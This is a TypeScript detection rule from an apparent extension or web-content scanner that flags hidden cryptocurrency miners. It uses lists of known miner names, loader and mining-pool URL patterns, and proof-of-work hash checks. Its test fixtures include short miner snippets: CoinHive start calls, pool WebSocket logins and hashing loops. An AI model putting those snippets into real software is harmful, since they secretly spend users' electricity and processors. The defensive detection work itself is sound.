import { words } from '../../words.ts';
import {
  apiPath,
  argOf,
  calledPaths,
  calleeOf,
  callsNamed,
  callsOf,
  constant,
  keysOf,
  Op,
  opOf,
  pattern,
  receiverOf,
  type ScriptFacts,
  scriptsOf,
  valuesOf,
  writesOf,
} from '../../facts/javascript/query.ts';
import type { Facts } from '../../facts.ts';
import { defineRule, type Hit } from '../../rule.ts';
import { backgroundExample, checkScripts, contentExample, type Judged } from './checkScripts.ts';
import { backwardSlice } from '../../program/backwardSlice.ts';
import { fillsBytes, isPutTogether } from '../../program/isPutTogether.ts';
import { requestsOf } from './requestsOf.ts';
import { textsOf } from './textsOf.ts';
import { say } from '../../../texts/say.ts';

/** Objects by which the known miners are started, and names that their loaders have. From public reports. */
const MINERS = words(
  'CoinHive Coinhive CoinImp Client CryptoLoot CRLT deepMiner WebMinePool WMP JSECoin EverythingIsLife MoneroMiner webminerpool CryptoNoter perfektstart Minero',
);
const STARTED_BY = words('Anonymous User Token start Start Miner');
/** `CoinHive.Anonymous` */
const isMiner = (path: string): boolean => {
  const [object = '', method = '', ...more] = path.split('.');
  return more.length === 0 && MINERS.has(object) && STARTED_BY.has(method);
};
const LOADER =
  /(coinhive|coin-hive|coinimp|crypto-?loot|cryptonight|deepminer|webminepool|jsecoin|monerominer|webminer|minero\.cc|coin-have|xmr(ig|rig|miner|pool))[\w./-]*\.(min\.)?(js|wasm)(\?|$)/i;
const POOL =
  /^(stratum\+(tcp|ssl)|wss?):\/\/[^/]*(pool|xmr|monero|mine(r|xmr)?|hash(vault|range)|nanopool|moneroocean|supportxmr|stratum)[^/]*/i;
const JOB_WORDS = [
  'job_id',
  'nonce',
  'hashrate',
  'hashesPerSecond',
  'target',
  'blob',
  'cryptonight',
  'submit',
  'seed_hash',
  'login',
];

const RUNS_WASM = ['WebAssembly.instantiate', 'WebAssembly.instantiateStreaming', 'WebAssembly.Module'];

/** Signs that no spelling of a hash has. */
const NO_HASH = /[^\w*+/=-]/;

export const cryptoMining = defineRule({
  id: 'crypto-mining',
  title: 'Cryptominer: mines cryptocurrency on this computer',
  severity: 'critical',
  confidence: 'high',
  category: 'code',
  applies: 'both',
  cwe: 'CWE-506',
  references: [
    'https://attack.mitre.org/techniques/T1496/',
    'https://developer.chrome.com/docs/webstore/program-policies/malicious-and-prohibited',
  ],
  why: 'Somebody else earns money with the user’s electricity and processor for as long as the browser is open.',
  remedy: 'Remove the miner. Stores forbid it.',
  check: checkScripts(function* ({ script, facts, hit }) {
    if (facts.kind === 'extension')
      for (const value of workProved(script)) yield hit(value, { confidence: 'medium', message: say('proves-work') });
    // Whether one is started at all is asked of the few names, not of each call.
    for (const value of Array.from(calledPaths(script)).some(isMiner) ? script.calls : []) {
      const path = apiPath(script, calleeOf(script, value)) ?? '';
      if (
        isMiner(path) &&
        !(path.startsWith('Client.') && !/[0-9a-f]{32,}/.test(constant(script, argOf(script, value, 0)) ?? ''))
      )
        yield hit(value);
    }
    for (const [value, to] of loaded(script)) if (LOADER.test(to)) yield hit(value, { evidence: to });
    yield* poolsAsked({ script, facts, hit });
  }),
  examples: {
    bad: [
      // Where the hash has that sign in front, it is one that is looked for.
      backgroundExample(
        'const hex = (b) => [...new Uint8Array(b)].map((x) => x.toString(16)).join(""); chrome.runtime.onMessage.addListener(async ({ block, target }) => { for (let n = 0; ; n++) { const h = hex(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(block + n))); if ((":" + h).startsWith(":" + target)) { fetch("https://api.example/" + n); break; } } });',
      ),
      contentExample('const m = new CoinHive.Anonymous("K3Y"); m.start();'),
      contentExample(
        'const s = document.createElement("script"); s.src = "https://cdn.example/lib/cryptonight.min.js"; document.head.append(s);',
      ),
      backgroundExample(
        'const ws = new WebSocket("wss://pool.example.net/"); ws.onmessage = (e) => { const j = JSON.parse(e.data); worker.postMessage({ job_id: j.job_id, blob: j.blob, target: j.target, nonce: 0 }); }; ws.send(JSON.stringify({ method: "login" }));',
      ),
      backgroundExample(
        'const hex = (b) => Array.from(new Uint8Array(b), (x) => x.toString(16).padStart(2, "0")).join(""); onmessage = async ({ data }) => { for (let n = data.seed; ; n += data.step) { const h = hex(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(data.base + n))); if (h.startsWith(data.level)) { postMessage({ n, h }); return; } } };',
      ),
      // The number to try is joined by a function, or put into a field, before.
      backgroundExample(
        'const hex = (b) => Array.from(new Uint8Array(b), (x) => x.toString(16).padStart(2, "0")).join(""); const with_ = (base, n) => `${base}:${n}`; async function hash(text) { return hex(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text))); } onmessage = async ({ data }) => { for (let n = 0; ; n++) if ((await hash(with_(data.base, n))).startsWith(data.level)) return postMessage(n); };',
      ),
      backgroundExample(
        'const hex = (b) => Array.from(new Uint8Array(b), (x) => x.toString(16).padStart(2, "0")).join(""); const job = {}; async function fits(level) { return hex(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(job.text))).startsWith(level); } onmessage = async ({ data }) => { for (let n = 0; ; n++) { job.text = data.base + n; if (await fits(data.level)) return postMessage(n); } };',
      ),
      // The number is written into the bytes of a block.
      backgroundExample(
        'const hex = (b) => Array.from(new Uint8Array(b), (x) => x.toString(16).padStart(2, "0")).join(""); onmessage = async ({ data }) => { const view = new DataView(data.block); for (let n = 0; ; n++) { view.setUint32(76, n); if (hex(await crypto.subtle.digest("SHA-256", data.block)).startsWith(data.level)) return postMessage(n); } };',
      ),
      // Also by a function that is handed them, as a part of a list, or in a field of an object.
      backgroundExample(
        'const hex = (b) => Array.from(new Uint8Array(b), (x) => x.toString(16).padStart(2, "0")).join(""); function put(bytes, n) { bytes[76] = n & 255; } onmessage = async ({ data }) => { for (let n = 0; ; n++) { put(data.bytes, n); if (hex(await crypto.subtle.digest("SHA-256", data.bytes)).startsWith(data.level)) return postMessage(n); } };',
      ),
      backgroundExample(
        'const hex = (b) => Array.from(new Uint8Array(b), (x) => x.toString(16).padStart(2, "0")).join(""); onmessage = async ({ data }) => { const parts = data.base.split("|"); for (let n = 0; ; n++) { parts[3] = n; if (hex(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(parts.join("|")))).startsWith(data.level)) return postMessage(n); } };',
      ),
      backgroundExample(
        'const hex = (b) => Array.from(new Uint8Array(b), (x) => x.toString(16).padStart(2, "0")).join(""); onmessage = async ({ data: { job, level } }) => { for (job.nonce = 0; ; job.nonce++) if (hex(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(JSON.stringify(job)))).startsWith(level)) return postMessage(job); };',
      ),
      // The pool is told elsewhere.
      backgroundExample(
        'class Rig { constructor(at) { this.at = at; } start(n) { const s = new WebSocket(this.at); s.onmessage = (e) => { const job = JSON.parse(e.data).params; const w = new Worker("h.js"); w.postMessage(job); w.onmessage = ({ data }) => s.send(JSON.stringify({ method: "submit", params: { job_id: job.job_id, nonce: data.n, result: data.h } })); }; } }',
      ),
      backgroundExample('importScripts("vendor/xmrig.wasm.js"); importScripts("vendor/webminer.js");'),
      {
        files: {
          'manifest.json': '{"manifest_version": 2, "name": "x", "version": "1", "background": {"scripts": ["b.js"]}}',
          'b.js': 'new Worker("w.js").postMessage({ at: "wss://pool.example:443", user: "48edfHu7V9Z8" });',
          'w.js':
            'onmessage = async ({ data }) => { const { instance } = await WebAssembly.instantiateStreaming(fetch("h.wasm"), {}); const s = new WebSocket(data.at); s.onopen = () => s.send(JSON.stringify({ type: "login", user: data.user })); s.onmessage = (m) => { const job = JSON.parse(m.data); for (;;) { const h = instance.exports.hash(job.blob); if (h < job.target) { s.send(JSON.stringify({ type: "submit", h })); break; } } }; };',
        },
      },
    ],
    good: [
      backgroundExample(
        'const hex = (b) => [...new Uint8Array(b)].map((x) => x.toString(16)).join(""); const keyOf = async (folder, parts) => { let all = ""; for (const part of parts) all += part; return folder + ":" + hex(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(all))); }; chrome.runtime.onMessage.addListener(async ({ folder, parts }) => { const key = await keyOf(folder, parts); if (key.startsWith(`${folder}:`)) chrome.storage.local.set({ key }); });',
      ),
      backgroundExample(
        'const blocked = ["coinhive.com", "coinhive.min.js", "cryptoloot.pro", "https://x.example/coinhive.min.js"]; block(blocked);',
      ),
      backgroundExample(
        'const hex = (b) => Array.from(new Uint8Array(b), (x) => x.toString(16).padStart(2, "0")).join(""); async function known(password, list) { const h = hex(await crypto.subtle.digest("SHA-1", new TextEncoder().encode(password))); return list.some((one) => one === h.slice(5)) || h.startsWith("sha-"); }',
      ),
      // A list with a patch put in, whose checksum is told in part.
      backgroundExample(
        'const hex = (b) => Array.from(new Uint8Array(b), (x) => x.toString(16).padStart(2, "0")).join(""); const patched = (text, from) => { const lines = text.split("\\n"); lines.splice(from - 1, 1); lines.push(""); lines[from + 2] = lines[from]; return lines.join("\\n"); }; async function update(asset, { checksum, from }) { const { text } = asset; const after = patched(text, from); const sum = hex(await crypto.subtle.digest("SHA-1", new TextEncoder().encode(after))); if (sum.startsWith(checksum) === false) return false; asset.text = after; return true; } onmessage = ({ data }) => update(data.asset, data.details);',
      ),
      backgroundExample(
        'const ws = new WebSocket("wss://pool-chat.example.net/"); ws.onmessage = (e) => show(e.data);',
      ),
      // A queue of jobs, and a nonce against replays.
      backgroundExample(
        'const ws = new WebSocket("wss://api.example.net/"); ws.onopen = () => ws.send(JSON.stringify({ type: "login", nonce: crypto.randomUUID() })); function ask(job) { ws.send(JSON.stringify({ type: "submit", job_id: job.id, text: job.text })); }',
      ),
      backgroundExample(
        'const c = new Client.User("me"); c.start(); const x = { nonce: crypto.randomUUID(), target: "a", blob: b }; fetch("https://api.example.com/login", { body: x });',
      ),
    ],
  },
});

/** Pools of miners that are asked, or told to who asks them. */
function* poolsAsked({ script, facts, hit }: Pick<Judged, 'script' | 'facts' | 'hit'>): Generator<Hit> {
  let asks = false;
  const words = Math.max(jobWords([script]), facts.kind === 'extension' ? facts.whole(jobWordsOfAll) : 0);
  for (const request of requestsOf(script)) {
    if (!POOL.test(request.to)) continue;
    const hashes = words >= 3 || callsOf(script, ...RUNS_WASM).length > 0;
    if (!hashes && !request.to.startsWith('stratum')) continue;
    asks = true;
    yield hit(request.value, { evidence: request.to, message: say('asks-mining-pool') });
  }
  const share = asks ? undefined : shareOf(facts, script);
  if (share !== undefined) yield hit(share, { message: say('asks-mining-pool') });
  yield* poolsTold({ script, facts, hit }, words, asks);
}

/** Addresses of pools that are handed on with settings for mining, to a worker that asks them; `words`: of jobs, in the whole extension. */
function* poolsTold(
  { script, facts, hit }: Pick<Judged, 'script' | 'facts' | 'hit'>,
  words: number,
  asks: boolean,
): Generator<Hit> {
  const stratum = textsOf(script).find(({ text }) => /^stratum\+(tcp|ssl):\/\/\S{4,}$/.test(text));
  const pool = textsOf(script).find(({ text }) => POOL.test(text));
  const isForMiners =
    /xmr|monero|mine|randomx|hash/i.test(pool?.text ?? '') &&
    script.strings.some((name) => /^(wallet|pool|threads|hashrate)$/.test(name)) &&
    script.strings.some((name) => /^(hardwareConcurrency|algo|coin|worker_?id)$/i.test(name));
  // A worker is told whom to ask: it hashes by WebAssembly, and speaks of jobs.
  if (
    pool !== undefined &&
    !asks &&
    (isForMiners || (words >= 3 && facts.kind === 'extension' && facts.whole(hashesForSocket)))
  )
    yield hit(pool.value, {
      evidence: pool.text,
      ...(isForMiners ? { confidence: 'medium' } : {}),
      message: say('passes-mining-settings'),
    });
  if (stratum !== undefined && words >= 2) yield hit(stratum.value, { evidence: stratum.text, confidence: 'medium' });
}

const jobWords = (scripts: readonly ScriptFacts[]): number =>
  JOB_WORDS.filter((word) => scripts.some(({ strings }) => strings.includes(word))).length;

/** The same in the scripts that an extension's workers and pages have together. */
const jobWordsOfAll = (facts: Facts): number =>
  jobWords([...scriptsOf(facts)].filter(({ file }) => !file.traits.vendored).map(({ script }) => script));

/**
 * Hashes that have to begin with what somebody says: work that is proved (Nakamoto 2008, section 4). Nothing that an
 * extension does for a person needs it.
 */
function* workProved(script: ScriptFacts): Iterable<number> {
  if (callsOf(script, 'crypto.subtle.digest').length === 0) return;
  for (const call of callsNamed(script, 'startsWith')) {
    const begin = constant(script, call.args[0] ?? 0);
    if (begin !== undefined && !/^0{2,}$/.test(begin)) continue;
    // `key.startsWith(`${folder}:`)`: no hash is looked for.
    if (NO_HASH.test(pattern(script, call.args[0] ?? 0)) && !NO_HASH.test(pattern(script, receiverOf(script, call))))
      continue;
    for (const one of backwardSlice(script, receiverOf(script, call))) {
      const isHash = opOf(script, one) === Op.call && apiPath(script, calleeOf(script, one)) === 'crypto.subtle.digest';
      // A file whose checksum is told in part is hashed as it came; who proves work hashes it with one number after another.
      if (isHash && (begin !== undefined || isPutTogether(script, argOf(script, one, 1)) || fillsBytes(script))) {
        yield one;
        break;
      }
    }
  }
}

/**
 * What a miner hands in to any pool: a nonce for a job, as Stratum's `submit` (JSON-RPC of miners, with `job_id`) has it;
 * or its method's name.
 */
function shareOf(facts: Facts, script: ScriptFacts): number | undefined {
  const { strings } = script;
  const isNamed = strings.includes('job_id') && strings.includes('nonce');
  if (facts.kind !== 'extension' || !(isNamed || strings.includes('mining.submit')) || !facts.whole(opensSocket))
    return undefined;
  const shares = valuesOf(script, Op.object).find((value) => {
    const keys = keysOf(script, value);
    return keys.includes('job_id') && keys.includes('nonce');
  });
  return shares ?? textsOf(script).find(({ text }) => text === 'mining.submit')?.value;
}

/** Whether an extension has one script that opens a socket and runs WebAssembly. */
const hashesForSocket = (facts: Facts): boolean =>
  [...scriptsOf(facts)].some(
    ({ script }) => callsOf(script, 'WebSocket').length > 0 && callsOf(script, ...RUNS_WASM).length > 0,
  );

const opensSocket = (facts: Facts): boolean =>
  [...scriptsOf(facts)].some(({ script }) => callsOf(script, 'WebSocket').length > 0);

/** Addresses that are loaded or run. */
function loaded(script: ScriptFacts): [number, string][] {
  const out: [number, string][] = [];
  for (const write of writesOf(script, 'src')) out.push([write.value, pattern(script, write.value)]);
  for (const call of [
    ...callsOf(script, 'importScripts', 'import', 'Worker', '$.getScript', 'fetch'),
    ...callsNamed(script, 'setAttribute'),
  ])
    for (const arg of call.args) out.push([call.value, pattern(script, arg)]);
  return out;
}
